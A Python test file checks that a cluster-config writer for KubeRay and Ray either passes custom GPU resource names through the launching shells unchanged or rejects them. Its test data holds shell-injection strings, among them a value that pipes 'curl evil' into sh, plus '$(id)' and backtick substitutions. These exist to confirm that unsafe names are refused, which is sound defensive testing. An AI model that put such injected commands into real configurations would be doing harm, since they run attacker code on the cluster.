"""Tests that shells on the cluster read the amounts of a written file unchanged and run no other command."""

import json
import shlex

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.kuberay.designed_clusters import a_design, gpu_type
from tune_policies import InvalidResourcesError
from tune_policies.kuberay.reading.ray_counts import quoted_amounts
from tune_policies.kuberay.writing import WriteOptions, write_cluster

HOSTILE = [*"'\"\\;|\n\r\u2028 \x00#*!", "$(id)", "$HOME", "`id`", "$$", "&&"]
WORDS = ["gpu_type", "node:10.0.0.1", "a/b.c", "größe", "単位", "v1+2", "me@home", "--flag"]

names = st.lists(st.sampled_from(HOSTILE + WORDS), min_size=1, max_size=4).map("".join) | st.text(min_size=1)
FORMATS = [("kuberay", "2.60.0"), ("kuberay", "2.50.0"), ("cluster-yaml", "2.60.0")]


def in_kuberays_shell(group):
    """Return the resources that bash reads from KubeRay's command. KubeRay quotes only the field ``resources``."""
    params = dict(group["rayStartParams"])
    if "template" in group and "resources" in group:  # in Helm values, ``resources`` belongs to the container
        params["resources"] = "'" + json.dumps({name: int(at) for name, at in group["resources"].items()}) + "'"
    command = "".join(f" --{option}={value} " for option, value in params.items())
    assert "$" not in command  # Kubernetes would expand $(NAME) before the shell starts
    (word,) = shlex.split(command, comments=True)
    return json.loads(word.removeprefix("--resources="))


def in_launchers_shell(node_type):
    """Return the resources that Ray's launcher exports and passes to Docker without quotes."""
    text = json.dumps(node_type["resources"], separators=(",", ":"), ensure_ascii=False)
    assert text.split() == [text]
    return {name: amount for name, amount in node_type["resources"].items() if name not in ("CPU", "GPU", "memory")}


def amounts_in(text, form):
    written = yaml.safe_load(text)
    if form == "kuberay":
        return in_kuberays_shell(written["spec"]["workerGroupSpecs"][0])
    assert [shlex.split(command)[:2] for command in written["setup_commands"]] == [["pip", "install"]]
    return in_launchers_shell(written["available_node_types"]["l4"])


@pytest.mark.parametrize(("form", "version"), FORMATS)
@given(name=names)
def test_a_resource_name_is_read_unchanged_by_all_shells_or_is_rejected(form, version, name):
    try:
        plan = a_design(gpu_type(custom={name: 3}))
        text = write_cluster(plan, WriteOptions(format=form, ray_version=version))
    except InvalidResourcesError:
        return

    assert amounts_in(text, form) == {name: 3, "accelerator_type:L4": 1}


@pytest.mark.parametrize(("form", "version"), FORMATS)
@pytest.mark.parametrize(
    "name", ["'}; curl evil | sh; '{", "$(curl evil)", "`id`", 'a"b', "a\\b", "a b", "a\nb", "a\udc80"]
)
def test_a_name_that_a_shell_interprets_is_rejected(form, version, name):
    plan = a_design(gpu_type(custom={name: 1}))

    with pytest.raises(InvalidResourcesError, match=r"is not safe in the shells that start Ray: use letters, digits"):
        write_cluster(plan, WriteOptions(format=form, ray_version=version))


@pytest.mark.parametrize(("form", "version"), FORMATS)
@pytest.mark.parametrize("name", WORDS)
def test_names_in_all_writing_systems_are_accepted(form, version, name):
    text = write_cluster(a_design(gpu_type(custom={name: 2})), WriteOptions(format=form, ray_version=version))

    assert amounts_in(text, form)[name] == 2


@given(st.dictionaries(st.text(), st.integers(0, 10**9)))
def test_a_shell_reads_quoted_amounts_unchanged(amounts):
    (word,) = shlex.split(quoted_amounts(amounts))

    assert json.loads(word) == amounts
